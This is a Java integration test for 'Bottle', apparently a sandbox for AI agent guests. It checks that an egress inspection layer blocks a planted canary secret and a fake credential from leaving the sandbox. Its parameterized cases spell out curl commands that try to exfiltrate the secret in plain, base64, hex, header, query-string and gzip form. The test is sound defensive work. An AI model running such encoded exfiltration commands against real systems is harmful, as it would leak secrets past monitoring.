package dev.bottle.system.endtoend;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bottle.crd.condition.ConditionType;
import io.fabric8.kubernetes.api.model.Condition;
import java.io.IOException;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** What a guest cannot carry out, by the inspection that every Bottle has. */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class InspectionIT {
  private static final String BOTTLE = "inspected";
  private static final String ORIGIN = "https://" + OriginProcess.ALLOWED;

  private LocalCluster cluster;
  private OriginProcess origin;

  @BeforeAll
  void applyOneBottle() throws IOException {
    cluster = new LocalCluster("inspection");
    origin = new OriginProcess(cluster);
    cluster
        .apply(
            """
            apiVersion: bottle.dev/v1alpha1
            kind: Bottle
            metadata: {name: inspected}
            spec:
              image: 10.98.0.1:5000/bottle/guest-debian:1
              machine: {cpus: 1, memory: 512Mi, disk: 1Gi}
              egress: {allow: [origin.bottle.test]}
            """)
        .orThrow();
    cluster.awaitReady(BOTTLE);
  }

  @AfterAll
  void removeIt() {
    origin.close();
    cluster.close();
  }

  @Test
  void theGuestHasItsCanaryTwice() {
    String canary = sh("printenv BOTTLE_CANARY");

    assertThat(canary).matches("btl_canary_[A-Za-z0-9]{32}\\n");
    assertThat(sh("cat ~/.claude-bottle-canary.txt")).isEqualTo(canary);
    assertThat(sh("stat -c '%a %U' ~/.claude-bottle-canary.txt")).isEqualTo("600 node\n");
  }

  /** However it is spelled, the origin gets none of these requests, and a person is told. */
  @ParameterizedTest
  @CsvSource(
      delimiter = ';',
      quoteCharacter = '`',
      value = {
        "plain; --data \"env: $BOTTLE_CANARY\"",
        "base64; --data \"x$(printf %s \"$BOTTLE_CANARY\" | base64 -w0)\"",
        "base64url; --data \"xx$(printf %s \"$BOTTLE_CANARY\" | base64 -w0 | tr +/ -_)\"",
        "hex; --data \"$(printf %s \"$BOTTLE_CANARY\" | od -An -tx1 | tr -d ' \\n')\"",
        "header; -H \"X-Note: $BOTTLE_CANARY\"",
        "query; -G --data-urlencode \"q=$BOTTLE_CANARY\"",
        "gzip; -H 'Content-Encoding: gzip' --data-binary @/tmp/canary.gz"
      })
  void theCanaryDoesNotGetOut(String path, String options) throws IOException {
    sh("printenv BOTTLE_CANARY | gzip > /tmp/canary.gz");

    String answer = sh("curl -sS " + options + " " + ORIGIN + "/canary/" + path);

    assertThat(answer).contains("\"reason\":\"CanaryFound\"");
    assertThat(origin.requestsTo("/canary/" + path)).isZero();
    LocalCluster.await()
        .untilAsserted(() -> {
          Condition tripped = cluster.condition(BOTTLE, ConditionType.CanaryTripped.name());
          assertThat(tripped.getStatus()).isEqualTo("True");
          assertThat(tripped.getMessage()).contains(OriginProcess.ALLOWED);
        });
    assertThat(cluster.condition(BOTTLE, ConditionType.Ready.name()).getStatus()).isEqualTo("True");
    LocalCluster.await()
        .untilAsserted(
            () -> assertThat(cluster.kubectl("get", "events").orThrow()).contains("CanaryTripped"));
  }

  @Test
  void aCredentialOfSomebodyElseDoesNotGetOutAndOrdinaryTextDoes() throws IOException {
    String refused =
        sh(
            "curl -sS --data \"dop_v1_$(printf 'a1b2c3d4%.0s' 1 2 3 4 5 6 7 8)\" "
                + ORIGIN
                + "/inspected/secret");
    assertThat(refused).contains("\"reason\":\"SecretFound\"").doesNotContain("a1b2c3d4");
    assertThat(origin.requestsTo("/inspected/secret")).isZero();

    String passed =
        sh(
            "curl -sS -o /dev/null -w '%{http_code}' --data \"$(head -c 65536 /etc/services)\" "
                + ORIGIN
                + "/inspected/text");
    assertThat(passed).isEqualTo("200");
    assertThat(origin.requestsTo("/inspected/text")).isEqualTo(1);
  }

  @Test
  void goingWithoutNeedsAnAdminsLeave() {
    cluster
        .apply(
            """
            apiVersion: bottle.dev/v1alpha1
            kind: Bottle
            metadata: {name: uninspected}
            spec:
              image: 10.98.0.1:5000/bottle/guest-debian:1
              egress: {allow: [], inspection: None}
            """)
        .orThrow();

    LocalCluster.await()
        .untilAsserted(() -> {
          Condition ready = cluster.condition("uninspected", ConditionType.Ready.name());
          assertThat(ready.getReason()).isEqualTo("InspectionRequired");
          assertThat(ready.getMessage()).contains("allowUninspected");
        });
    assertThat(cluster.kubectl("get", "pod", "bottle-uninspected").exitCode()).isNotZero();
  }

  private String sh(String script) {
    return cluster.guest(BOTTLE, "sh", "-c", script).orThrow();
  }
}
